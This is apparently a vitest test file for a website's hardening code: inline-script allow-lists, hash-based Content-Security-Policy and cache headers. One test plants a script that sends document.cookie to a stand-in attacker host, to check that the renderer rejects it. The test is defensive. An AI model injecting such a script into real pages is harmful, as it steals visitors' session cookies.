import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { addressOf, staticHostHeaders } from './harden-pages.ts';
import { pageHashes, withPolicyMeta } from '../worker/page-policy.ts';
import { allowListMeta, ForeignInlineScriptError, ownInlineScripts } from '../app/lib/inline-allow-list.ts';
import { SPECULATION_RULES } from '../app/lib/speculation-rules.ts';
import { cacheControl, pagePolicy } from '../worker/security.ts';

const sha = (body: string) => `sha256-${createHash('sha256').update(body).digest('base64')}`;

describe('page hardening', () => {
  const NONCE = 'render-nonce';
  const page = [
    '<!DOCTYPE html><html><head><meta charSet="utf-8"/><title>x</title>',
    '<script type="application/ld+json">{"@type":"Thing"}</script>',
    '<script src="/assets/a.js"></script>',
    `<script nonce="${NONCE}">window.__reactRouterContext = {}</script>`,
    `<script type="module" async="" nonce="${NONCE}">import "/assets/b.js";</script>`,
    '<script>window.site = 1</script></head><body></body></html>',
  ].join('');
  const rendered = () =>
    ownInlineScripts(page, { where: '/x', nonce: NONCE, fixed: ['window.site = 1'], styles: ['.a{}'] });

  describe('the renderer’s list', () => {
    it('takes scripts with the render’s nonce and our fixed ones, skips JSON-LD and external scripts, and removes the nonce', () => {
      const { html, list } = rendered();
      expect(list).toEqual({
        scripts: ['window.__reactRouterContext = {}', 'import "/assets/b.js";', 'window.site = 1'],
        styles: ['.a{}'],
        hydrates: true,
      });
      expect(html).not.toContain(NONCE);
    });

    it('refuses a page with an inline script it did not write, such as one planted in a contractor’s data', () => {
      const planted = page.replace(
        '<body>',
        '<body><script>fetch("https://evil.example/?"+document.cookie)</script>',
      );
      expect(() =>
        ownInlineScripts(planted, {
          where: '/states/tx/austin/x',
          nonce: NONCE,
          fixed: ['window.site = 1'],
          styles: [],
        }),
      ).toThrow(ForeignInlineScriptError);
      // A script copying the nonce attribute of another build is foreign too.
      expect(() =>
        ownInlineScripts(page.replace('<body>', '<body><script nonce="guessed">alert(1)</script>'), {
          where: '/x',
          nonce: NONCE,
          fixed: ['window.site = 1'],
          styles: [],
        }),
      ).toThrow('/x has an inline script the renderer did not write: "alert(1)"');
    });
  });

  describe('the build’s policy from that list', () => {
    it('hashes exactly the listed scripts, once, and removes the list from the page', async () => {
      const { html, list } = rendered();
      const page = await pageHashes(html.replace('<head>', `<head>${allowListMeta(list)}`), 'x.html');
      expect(page.scriptHashes).toEqual([
        sha('window.__reactRouterContext = {}'),
        sha('import "/assets/b.js";'),
        sha('window.site = 1'),
      ]);
      expect(page.html).not.toContain('pond-inline-allow-list');
      expect(page.styleHashes).toBeUndefined();
    });

    it('fails on a page with a script that is not on its list, or a page with inline script and no list', async () => {
      const { html, list } = rendered();
      const listed = html.replace('<head>', `<head>${allowListMeta(list)}`);
      await expect(
        pageHashes(listed.replace('</body>', '<script>alert(1)</script></body>'), 'x.html'),
      ).rejects.toThrow('x.html has an inline script the renderer did not write: "alert(1)"');
      await expect(pageHashes(html, 'x.html')).rejects.toThrow(ForeignInlineScriptError);
      // A page React Router wrote itself (a redirect) without any inline script is fine.
      expect(
        (await pageHashes('<html><head></head><body>Redirecting</body></html>', 'r.html')).scriptHashes,
      ).toEqual([sha(SPECULATION_RULES)]);
    });

    it('allows the speculation rules and hashes the styles on a page that does not hydrate', async () => {
      const content = allowListMeta({
        scripts: ['window.site = 1'],
        styles: ['.a{color:red}'],
        hydrates: false,
      });
      const page = await pageHashes(
        `<html><head>${content}<script>window.site = 1</script></head></html>`,
        'c.html',
      );
      expect(page.scriptHashes).toEqual([sha('window.site = 1'), sha(SPECULATION_RULES)]);
      expect(page.styleHashes).toEqual([sha('.a{color:red}'), sha('')]);
    });
  });

  it('puts the policy right after the charset, before any script', () => {
    const policy = pagePolicy({ scriptHashes: rendered().list.scripts.map(sha) });
    const hardened = withPolicyMeta(page, policy);
    expect(hardened.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(
      hardened.indexOf('<script'),
    );
    expect(hardened).toContain(`<meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy" content="`);
  });

  it("never lets inline script run by 'unsafe-inline', and adds the hosted API when there is one", () => {
    const policy = pagePolicy({ scriptHashes: ['sha256-abc'], apiOrigin: 'https://abc.supabase.co' });
    const scriptSrc = policy.split('; ').find((directive) => directive.startsWith('script-src'));
    expect(scriptSrc).toBe("script-src 'self' 'sha256-abc'");
    expect(policy).toContain("connect-src 'self' https://abc.supabase.co");
  });

  it('caches hashed assets and versioned kits for a year, and revalidates pages and the evergreen kit', () => {
    expect(cacheControl('/assets/root-abc.js')).toBe('public, max-age=31536000, immutable');
    expect(cacheControl('/widgets/1.2.0/loader.js')).toBe('public, max-age=31536000, immutable');
    expect(cacheControl('/widgets/v1/loader.js')).toBe('public, max-age=300');
    expect(cacheControl('/states/tx')).toBe('public, max-age=0, must-revalidate');
  });

  it('writes a headers file in which no two rules set the same header on one file', () => {
    const file = staticHostHeaders(['1.2.0', 'v1']);
    const rules = file.split(/\n(?=\/)/).filter((rule) => rule.startsWith('/'));
    expect(rules.map((rule) => rule.split('\n')[0])).toEqual([
      '/*',
      '/assets/*',
      '/widgets/1.2.0/*',
      '/widgets/v1/*',
    ]);
    const headerNames = (rule: string) =>
      rule
        .split('\n')
        .slice(1)
        .map((line) => line.trim().split(':')[0]);
    // '/*' applies to everything: it must not set what the narrower rules set.
    for (const rule of rules.slice(1))
      for (const name of headerNames(rule)) expect(headerNames(rules[0]!)).not.toContain(name);
  });

  it('keeps application pages out of shared caches, each by its own address', () => {
    const file = staticHostHeaders(['v1'], ['/admin/leads', '/builders/dashboard']);
    expect(file).toContain('/builders/dashboard\n  cache-control: private, no-cache\n');
    expect(file).toContain('/admin/leads\n  cache-control: private, no-cache\n');
    expect(file).not.toMatch(/cdn-cache-control/i);
    expect(addressOf('builders/dashboard/index.html')).toBe('/builders/dashboard');
    expect(addressOf('index.html')).toBe('/');
    expect(addressOf('404.html')).toBe('/404');
  });

  describe('styles of pages that do not hydrate', () => {
    it("lists the hashes instead of 'unsafe-inline' when given them, and keeps it for pages that hydrate", () => {
      const styleHashes = [sha('.a{color:red}'), sha('.b{}'), sha('')];
      const hashed = pagePolicy({ scriptHashes: [], styleHashes });
      expect(hashed).toContain(`style-src 'self' '${sha('.a{color:red}')}' '${sha('.b{}')}' '${sha('')}'`);
      expect(hashed).not.toContain("'unsafe-inline'");
      expect(pagePolicy({ scriptHashes: [] })).toContain("style-src 'self' 'unsafe-inline'");
    });
  });
});
